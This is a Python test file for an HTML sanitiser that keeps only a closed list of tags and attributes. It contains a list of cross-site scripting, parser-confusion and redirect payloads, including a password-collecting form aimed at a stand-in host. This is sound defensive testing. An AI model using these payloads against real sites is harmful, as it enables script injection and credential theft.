"""HTML that staff write carries no script, style, link or foreign address to others."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from kernel import rich_text

ID = "0123456789abcdef" * 4
NASTY = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=https://evil.example>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object>",
    "<style>@import '//evil.example'</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p class='weui-btn' id='sku' onclick=alert(1)>x</p>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=password><button>登录</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 on=1&gt;'>",
    "<svg><p><style><img src='</style><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<video src=//evil.example autoplay></video>",
    f"<img src='https://evil.example/{ID}-750.jpg' srcset='//evil.example 2x'>",
    f"<img src='javascript:{ID}'>",
    f"<img src='{ID}' alt='\"><script>alert(1)</script>'>",
    f"<img src='{ID}' alt='<img src=x onerror=alert(1)>'>",
    "<img src='data:text/html,<script>'>",
    "<td colspan='9999999'>x</td>",
    "<table><td colspan='2 onclick=alert(1)'>x</table>",
    "<x-card onclick=alert(1)>x</x-card>",
    "<plaintext>x",
    "<!--><script>alert(1)</script>-->",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "\u202e<b>x",
    "<b>" * 3000 + "x",
]
ATTRIBUTES = {"img": {"src", "alt"}, "td": {"colspan", "rowspan"}, "th": {"colspan", "rowspan"}}


def check(html: str) -> None:
    """Stored HTML has the closed list only, and cleaning it again changes nothing."""
    kept = rich_text.clean(html).html
    for node in LexborHTMLParser(f"<div id=top>{kept}</div>").css("#top *"):
        assert node.tag in rich_text.TAGS
        assert set(node.attributes) <= ATTRIBUTES.get(node.tag, set())
        if node.tag == "img":
            assert re.fullmatch(r"[0-9a-f]{64}", node.attributes["src"] or "")
    known = "|".join(rich_text.TAGS)
    assert not re.search(rf"<(?!/?(?:{known})[ >])", kept)
    assert rich_text.clean(kept).html == kept


@pytest.mark.parametrize("html", NASTY)
def test_nothing_of_it_survives(html: str) -> None:
    check(html)
    check(f"<p>前</p>{html}<p>后</p>")
    kept = rich_text.clean(html).html
    assert "evil" not in kept


@pytest.mark.parametrize("html", NASTY)
def test_what_is_drawn_has_our_own_addresses_only(html: str) -> None:
    kept = rich_text.clean(html).html
    shown = rich_text.drawn(kept, {ID: "one"}, lambda _, alt: f"[{len(alt)}]")
    assert "<img" not in shown
    assert ID not in shown


PIECES = [
    *NASTY, "<p>", "</p>", "<b>", "<table><tr><td>", "</table>", "<img alt='", "'", '"', ">", "<",
    "&lt;", ID, "src=", " ", "酒", "--", "<!--", "]]>", "<![CDATA[",
]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=12))
def test_pieces_put_together_are_cleaned_too(parts: list[str]) -> None:
    check("".join(parts))


def test_what_a_text_says_is_seen_by_the_lint() -> None:
    """Words that tags cut apart, entities and the words of pictures are one text."""
    html = f"<p>国<b>家</b>级&nbsp;&amp;</p><img src='{ID}' alt='特供'><p>a</p>"
    assert rich_text.text_of(rich_text.clean(html).html).split("\n") == ["国家级 &", "特供", "a"]
